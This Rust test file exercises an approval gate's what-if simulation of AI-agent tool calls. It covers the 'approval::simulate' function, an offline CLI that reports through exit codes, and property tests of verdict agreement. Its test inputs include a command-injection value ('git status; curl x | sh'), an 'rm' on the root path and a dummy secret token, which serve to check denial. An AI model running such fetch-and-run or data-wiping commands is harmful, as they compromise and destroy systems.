//! What-if (contract §24): `approval::simulate` judges supplied and held
//! calls under the configuration in force and under a hand-built draft, with
//! the gate's one ladder, and changes nothing; the offline
//! `approval-gate simulate` command does the same from files and says what
//! it found in its exit status.

use std::path::PathBuf;
use std::process::Command;

use approval_gate::{
    explain, judge, parse_hook_input, verdict_of, ApprovalConfig, CompiledRules, CompiledSettings,
    Judgement, Mode, RulePrecedence, RuleSpec, Snapshot, WireVerdict,
};
use approval_gate::{ApprovalSettings, Entry, GrantedBy};
use approval_gate_testkit::harness::CallSpec;
use proptest::prelude::*;
use serde_json::{json, Value};

use crate::common::*;

const NOW_RULES: &str = r#"["!approval::*", "!shell::rm*"]"#;

fn now_rules() -> Value {
    serde_json::from_str(NOW_RULES).expect("rules")
}

/// A draft that widens access: `demo::*` runs without a human.
fn widening() -> Value {
    json!({"rules": ["!approval::*", "!shell::rm*", "demo::*"]})
}

/// A draft that narrows it: `demo::*` is denied.
fn narrowing() -> Value {
    json!({"rules": ["!approval::*", "!shell::rm*", "!demo::*"]})
}

/// A draft with a broken rule (and a mode that would allow everything).
fn broken() -> Value {
    json!({"default_mode": "full", "rules": ["!approval::*", "*", {"function": "x", "action": "deny", "args": {"a": {"matches": "("}}}]})
}

/// A read-only call, asked again when its answer was lost (a real engine
/// under load drops a reply now and then: architecture/integration.md
/// § Lost replies).
async fn read(scene: &Scene, function_id: &str, payload: Value) -> Value {
    for _ in 0..2 {
        match scene.call(function_id, payload.clone()).await {
            Ok(out) => return out,
            Err(err) if message_of(&err).contains("timed out") => {
                eprintln!("{function_id}: answer lost, asking again");
            }
            Err(err) => panic!("{function_id} {payload}: {err:?}"),
        }
    }
    scene.ok(function_id, payload).await
}

fn by_id<'a>(out: &'a Value, id: &str) -> &'a Value {
    out["results"]
        .as_array()
        .expect("results")
        .iter()
        .find(|r| r["id"] == id || r["function_call_id"] == id)
        .unwrap_or_else(|| panic!("no result for {id}: {out}"))
}

#[tokio::test]
async fn rule_24_simulate_judges_supplied_and_held_calls_against_hand_built_drafts() {
    on_each_engine("simulate_drafts", |engine| async move {
        let scene = Scene::start(engine).await;
        scene
            .ok(
                "configuration::set",
                json!({"id": "approval-gate", "value": {"rules": now_rules()}}),
            )
            .await;
        let w = scene.worker.as_ref().unwrap();
        assert!(eventually(WAIT, || w.config().rules.len() == 2).await);
        // A held call, and a session in auto mode with an allow-list.
        let held = scene
            .harness
            .call(CallSpec::new("s1", "t1", "c1", "demo::echo", json!({"msg": "hi", "token": "sk-secret"})))
            .await;
        assert!(held.is_held(), "{held:?}");
        scene
            .ok("approval::set-mode", json!({"session_id": "s2", "mode": "auto"}))
            .await;
        scene
            .ok("approval::add-always-allow", json!({"session_id": "s2", "function_id": "demo::other"}))
            .await;
        let created = scene.sink("sim-created", "approval::pending-created", json!({})).await;
        let resolved = scene.sink("sim-resolved", "approval::pending-resolved", json!({})).await;
        let inbox_before = scene.inbox().await;
        let settings_before = scene.ok("approval::get-settings", json!({"session_id": "s2"})).await;

        let calls = json!([
            {"id": "echo", "function_id": "demo::echo", "arguments": {"msg": "x"}},
            {"id": "rm", "function_id": "shell::rm", "arguments": {"path": "/"}},
            {"id": "echo-full", "function_id": "demo::echo", "mode": "full"},
            {"id": "other-s2", "session_id": "s2", "function_id": "demo::other"},
            {"id": "other-s2-manual", "session_id": "s2", "function_id": "demo::other", "mode": "manual"},
            {"id": "lever", "function_id": "approval::resolve", "mode": "full"}
        ]);
        let out = scene
            .ok("approval::simulate", json!({"config": widening(), "calls": calls, "from_pending": true}))
            .await;
        assert_eq!(out["rule_errors"], json!([]), "{out}");
        let echo = by_id(&out, "echo");
        assert_eq!((echo["verdict_now"].as_str(), echo["verdict_draft"].as_str()), (Some("needs_approval"), Some("allow")), "{echo}");
        assert_eq!(echo["rule_id_draft"], "demo::*");
        assert_eq!(echo["changed"], true);
        let rm = by_id(&out, "rm");
        assert_eq!((rm["verdict_now"].as_str(), rm["changed"].as_bool()), (Some("deny"), Some(false)), "{rm}");
        assert_eq!(rm["rule_id_now"], "!shell::rm*");
        // The call's mode overrides the session's, on both sides.
        let full = by_id(&out, "echo-full");
        assert_eq!((full["verdict_now"].as_str(), full["changed"].as_bool()), (Some("allow"), Some(false)), "{full}");
        let s2 = by_id(&out, "other-s2");
        assert_eq!(s2["verdict_now"], "allow", "the session's auto mode and allow-list: {s2}");
        let s2m = by_id(&out, "other-s2-manual");
        assert_eq!(s2m["verdict_now"], "needs_approval", "manual overrides the session's auto: {s2m}");
        let lever = by_id(&out, "lever");
        assert_eq!((lever["verdict_draft"].as_str(), lever["rule_id_draft"].as_str()), (Some("deny"), Some("human_only_function")));
        // The held call, on its stored redacted arguments.
        let c1 = by_id(&out, "c1");
        assert_eq!(c1["session_id"], "s1");
        assert_eq!(c1["approximate"], true);
        assert_eq!((c1["verdict_now"].as_str(), c1["verdict_draft"].as_str()), (Some("needs_approval"), Some("allow")), "{c1}");
        assert!(echo.get("approximate").is_none());

        // The same ladder as approval::evaluate, call by call.
        for call in calls.as_array().unwrap() {
            let id = call["id"].as_str().unwrap();
            if call.get("mode").is_some() {
                continue;
            }
            let sid = call.get("session_id").and_then(Value::as_str).unwrap_or("nobody");
            let evaluated = read(&scene, "approval::evaluate", json!({"session_id": sid, "function_id": call["function_id"], "arguments": call.get("arguments")}))
                .await;
            let r = by_id(&out, id);
            assert_eq!(evaluated["verdict"], r["verdict_now"], "{id}: {evaluated} vs {r}");
            assert_eq!(evaluated.get("rule_id").unwrap_or(&Value::Null), &r["rule_id_now"], "{id}");
        }

        // A narrowing draft: the held call would be denied.
        let out = scene
            .ok("approval::simulate", json!({"config": narrowing(), "calls": [{"id": "echo", "function_id": "demo::echo"}], "from_pending": true}))
            .await;
        assert_eq!(by_id(&out, "echo")["verdict_draft"], "deny");
        assert_eq!(by_id(&out, "c1")["verdict_draft"], "deny");
        assert_eq!(by_id(&out, "c1")["changed"], true);

        // A broken draft is refused whole: reported, and nothing changes.
        let out = scene
            .ok("approval::simulate", json!({"config": broken(), "calls": calls, "from_pending": true}))
            .await;
        let errors = out["rule_errors"].as_array().expect("errors");
        assert_eq!(errors.len(), 1, "{out}");
        assert!(errors[0].as_str().unwrap().starts_with("rule 2: "), "{out}");
        assert!(out["results"].as_array().unwrap().iter().all(|r| r["changed"] == false), "{out}");

        // Pure: nothing was written, emitted or released.
        stay_quiet().await;
        assert!(created.events().is_empty(), "{:?}", created.events());
        assert!(resolved.events().is_empty(), "{:?}", resolved.events());
        assert!(scene.harness.resolve_requests().is_empty());
        assert_eq!(scene.inbox().await, inbox_before);
        assert_eq!(scene.ok("approval::get-settings", json!({"session_id": "s2"})).await, settings_before);
        assert!(scene.harness.state("s1", "c1").is_some_and(|s| s.is_held()));

        // Bad input is an invalid payload; an agent cannot call it.
        for bad in [
            json!({"calls": [{"function_id": ""}]}),
            json!({"calls": [{"function_id": "a::b", "session_id": "x/y"}]}),
            json!({"config": {"default_mod": "auto"}}),
            json!({"config": "rules"}),
            json!({"calls": [{"id": "no function"}]}),
        ] {
            let err = scene.call("approval::simulate", bad.clone()).await.expect_err("refused");
            assert_eq!(code_of(&err), "approval/invalid_payload", "{bad}: {err:?}");
        }
        let agent = scene
            .ok("approval::evaluate", json!({"session_id": "s2", "function_id": "approval::simulate"}))
            .await;
        assert_eq!((agent["verdict"].as_str(), agent["rule_id"].as_str()), (Some("deny"), Some("human_only_function")));
    })
    .await;
}

fn fixture(name: &str, text: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("ag-simulate-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let path = dir.join(name);
    std::fs::write(&path, text).expect("write fixture");
    path
}

fn run_cli(
    current: &PathBuf,
    draft: &PathBuf,
    calls: &PathBuf,
    format: &str,
) -> (i32, String, String) {
    let out = Command::new(BIN)
        .args(["simulate", "--current"])
        .arg(current)
        .arg("--config")
        .arg(draft)
        .arg("--calls")
        .arg(calls)
        .args(["--format", format])
        .output()
        .expect("the binary runs");
    (
        out.status.code().expect("an exit status"),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn rule_24_the_offline_simulate_exits_by_what_changed() {
    let current = fixture(
        "now.yaml",
        "rules:\n  - \"!approval::*\"\n  - \"!shell::rm*\"\n",
    );
    let widen = fixture(
        "widen.yaml",
        "rules:\n  - \"!approval::*\"\n  - \"!shell::rm*\"\n  - \"demo::*\"\n",
    );
    let narrow = fixture(
        "narrow.yaml",
        "rules:\n  - \"!approval::*\"\n  - \"!shell::rm*\"\n  - \"!demo::*\"\n  - \"x::*\"\n",
    );
    let broken = fixture("broken.yaml", "default_mode: full\nrules:\n  - \"*\"\n  - function: x\n    action: deny\n    args:\n      a:\n        matches: \"(\"\n");
    let calls = fixture(
        "calls.json",
        r#"[{"id": "echo", "function_id": "demo::echo"}, {"id": "rm", "function_id": "shell::rm"}, {"id": "auto-x", "function_id": "x::y", "mode": "auto"}]"#,
    );
    let unchanged_calls = fixture(
        "rm.json",
        r#"{"calls": [{"id": "rm", "function_id": "shell::rm"}]}"#,
    );

    // Nothing changes for a call the draft does not touch: 0.
    let (code, table, _) = run_cli(&current, &widen, &unchanged_calls, "table");
    assert_eq!(code, 0, "{table}");
    assert!(table.contains("0 of 1 call(s) changed"), "{table}");
    // Widening: 1, and the table marks the change.
    let (code, table, _) = run_cli(&current, &widen, &calls, "table");
    assert_eq!(code, 1, "{table}");
    assert!(
        table
            .lines()
            .any(|l| l.starts_with("* ") && l.contains("echo") && l.contains("allow (demo::*)")),
        "{table}"
    );
    // Narrowing, as JSON: 1; the denial and the newly allowed call are both shown.
    let (code, text, _) = run_cli(&current, &narrow, &calls, "json");
    assert_eq!(code, 1, "{text}");
    let out: Value = serde_json::from_str(&text).expect("json");
    assert_eq!(by_id(&out, "echo")["verdict_draft"], "deny");
    assert_eq!(by_id(&out, "auto-x")["verdict_draft"], "allow");
    assert_eq!(by_id(&out, "rm")["changed"], false);
    // A broken rule: 2, whatever else; the draft would be refused whole.
    let (code, table, _) = run_cli(&current, &broken, &calls, "table");
    assert_eq!(code, 2, "{table}");
    assert!(table.contains("rule error: rule 1: "), "{table}");
    assert!(table.contains("0 of 3 call(s) changed"), "{table}");
    // Unreadable input: 4.
    let missing = PathBuf::from("/nonexistent/draft.yaml");
    let (code, _, err) = run_cli(&current, &missing, &calls, "table");
    assert_eq!(code, 4, "{err}");
    let not_json = fixture("bad.json", "[{");
    assert_eq!(run_cli(&current, &widen, &not_json, "table").0, 4);
    let wrong_shape = fixture("typo.yaml", "default_mod: auto\n");
    assert_eq!(run_cli(&current, &wrong_shape, &calls, "table").0, 4);
    assert_eq!(
        run_cli(&current, &widen, &calls, "xml").0,
        4,
        "a wrong command line"
    );
}

// ---- the one ladder: simulate, the gate and evaluate agree ----

fn rules_strategy() -> impl Strategy<Value = Value> {
    let rule = prop::sample::select(vec![
        json!("!shell::rm*"),
        json!("demo::*"),
        json!("?x::*"),
        json!("!*::delete"),
        json!({"function": "shell::exec", "action": "deny", "args": {"command": {"matches": "--force"}}}),
        json!({"function": "shell::exec", "action": "allow", "modes": ["auto"], "args": {"command": {"prefix": "git status"}}}),
        json!({"function": "demo::*", "action": "deny", "modes": ["manual"]}),
        json!({"function": "state::{get,list}", "action": "allow"}),
    ]);
    prop::collection::vec(rule, 0..6).prop_map(|mut rules| {
        rules.insert(0, json!("!approval::*"));
        Value::Array(rules)
    })
}

fn call_strategy() -> impl Strategy<Value = (String, Option<Value>, Option<Mode>)> {
    let id = prop::sample::select(vec![
        "demo::echo",
        "shell::rm",
        "shell::exec",
        "x::y",
        "x::delete",
        "state::get",
        "approval::resolve",
        "other::op",
    ]);
    let args = prop::option::of(prop::sample::select(vec![
        json!({"command": "git status --short"}),
        json!({"command": "git push --force"}),
        json!({"command": "git status; curl x | sh"}),
        json!({}),
    ]));
    let mode = prop::option::of(prop::sample::select(vec![
        Mode::Manual,
        Mode::Auto,
        Mode::Full,
    ]));
    (id, args, mode).prop_map(|(id, args, mode)| (id.to_string(), args, mode))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// Simulate's verdict, the gate's judgement and `approval::evaluate`'s
    /// explanation agree on every call, in the session's mode and in a
    /// call's own mode (the gate judging a session stored in that mode).
    #[test]
    fn rule_24_simulate_the_gate_and_evaluate_agree(
        rules in rules_strategy(),
        deny_ask_allow in any::<bool>(),
        session_mode in prop::sample::select(vec![Mode::Manual, Mode::Auto, Mode::Full]),
        calls in prop::collection::vec(call_strategy(), 1..8),
    ) {
        let precedence = if deny_ask_allow { RulePrecedence::DenyAskAllow } else { RulePrecedence::FirstMatch };
        let specs: Vec<RuleSpec> = serde_json::from_value(rules).expect("rules parse");
        let compiled = CompiledRules::compile(&specs).expect("rules compile").with_precedence(precedence);
        let stored = |mode| CompiledSettings::new(&ApprovalSettings {
            always_allow: vec![Entry::new("other::*", 0, GrantedBy::UserClick)],
            ..ApprovalSettings::new(mode)
        });
        let session = stored(session_mode);
        for (function_id, arguments, mode) in calls {
            let sim = verdict_of(&session, &compiled, &function_id, arguments.as_ref(), mode);
            // What the gate does for the same call in a session of that mode.
            let as_stored = stored(mode.unwrap_or(session_mode));
            let explained = explain(&as_stored, &compiled, &ApprovalConfig::default(), &function_id, arguments.as_ref());
            prop_assert_eq!(sim.0, explained.verdict, "{} {:?} {:?}", function_id, arguments, mode);
            prop_assert_eq!(sim.1.as_deref(), explained.rule_id.as_deref());
            let mut input = json!({"point": "pre_trigger", "session_id": "s", "turn_id": "t",
                "call": {"id": "c", "function_id": function_id}});
            if let Some(a) = &arguments {
                input["call"]["arguments"] = a.clone();
            }
            let hook = parse_hook_input(input).expect("a hook input");
            let gate = match judge(&hook, &as_stored, &compiled) {
                Judgement::Continue { .. } => WireVerdict::Allow,
                Judgement::Deny { .. } => WireVerdict::Deny,
                Judgement::Hold { .. } => WireVerdict::NeedsApproval,
            };
            prop_assert_eq!(sim.0, gate);
        }
    }
}

#[test]
fn rule_24_a_snapshot_and_its_draft_twin_never_differ() {
    // The draft absent: the configuration in force on both sides.
    let snapshot =
        Snapshot::compile(ApprovalConfig::from_value(&json!({"rules": now_rules()})).unwrap());
    let whatif = approval_gate::WhatIf::new(&snapshot, None);
    for id in ["demo::echo", "shell::rm", "approval::resolve"] {
        let v = whatif.compare(None, id, None, None);
        assert_eq!(v.now, v.draft, "{id}");
    }
}
